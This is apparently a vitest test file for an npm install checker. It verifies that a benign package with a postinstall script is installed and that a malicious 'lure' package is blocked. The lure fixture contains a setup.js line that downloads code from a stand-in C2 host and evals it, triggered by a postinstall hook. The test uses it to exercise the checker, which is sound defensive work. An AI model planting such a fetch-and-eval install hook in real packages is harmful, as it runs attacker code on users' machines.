import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type CheckPool, createCheckPool } from '../../check/pool.ts'
import type { CheckLine } from '../../core/check-line.ts'
import { readSettings } from '../../core/settings.ts'
import { install } from './install.ts'

const folder = mkdtempSync(join(tmpdir(), 'postern-install-test-'))
let pool: CheckPool

/** Packs a package as npm does and gives the archive's path. */
function packed(name: string, files: Record<string, string>): string {
  const source = join(folder, `source-${name}`)
  mkdirSync(source)
  for (const [file, text] of Object.entries(files)) writeFileSync(join(source, file), text)
  execFileSync('tar', [
    'czf',
    join(folder, `${name}.tgz`),
    '-C',
    folder,
    '--transform',
    `s/^source-${name}/package/`,
    `source-${name}`,
  ])
  return join(folder, `${name}.tgz`)
}

function project(name: string): string {
  const path = join(folder, name)
  mkdirSync(path)
  writeFileSync(join(path, 'package.json'), JSON.stringify({ name, version: '1.0.0' }))
  return path
}

async function run(path: string, archive: string) {
  const lines: CheckLine[] = []
  const installed = await install(pool, {
    project: path,
    args: [archive],
    jobs: 1,
    accepts: (line) => !('error' in line) && line.verdict === 'pass',
    report: (line) => lines.push(line),
    show: false,
  })
  return { installed, lines }
}

beforeAll(() => {
  pool = createCheckPool({ settings: readSettings(undefined), dataDir: undefined, jobs: 1 })
})
afterAll(async () => {
  await pool.close()
  rmSync(folder, { recursive: true })
})

test('an honest package is installed and its script has run', async () => {
  const manifest = { name: 'honest', version: '1.0.0', scripts: { postinstall: 'node mark.js' } }
  const archive = packed('honest', {
    'package.json': JSON.stringify(manifest),
    'mark.js': "require('fs').writeFileSync('built', '')\n",
  })
  const path = project('first')
  const { installed, lines } = await run(path, archive)
  expect(lines).toMatchObject([{ verdict: 'pass' }, { path: 'honest@1.0.0', verdict: 'pass' }])
  expect(installed).toBe(true)
  expect(existsSync(join(path, 'node_modules/honest/built'))).toBe(true)
}, 60_000)

test('a package that is held back is neither installed nor has its script run', async () => {
  const trace = join(folder, 'trace')
  const manifest = {
    name: 'lure',
    version: '1.0.0',
    scripts: { postinstall: `touch ${trace}; node setup.js` },
  }
  const archive = packed('lure', {
    'package.json': JSON.stringify(manifest),
    'setup.js':
      "require('https').get('https://c2.lure.invalid/s', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)) })\n",
  })
  const path = project('second')
  const { installed, lines } = await run(path, archive)
  expect(installed).toBe(false)
  expect(lines.at(-1)).toMatchObject({ path: 'lure@1.0.0', verdict: 'block' })
  expect(existsSync(trace)).toBe(false)
  expect(existsSync(join(path, 'node_modules'))).toBe(false)
}, 60_000)
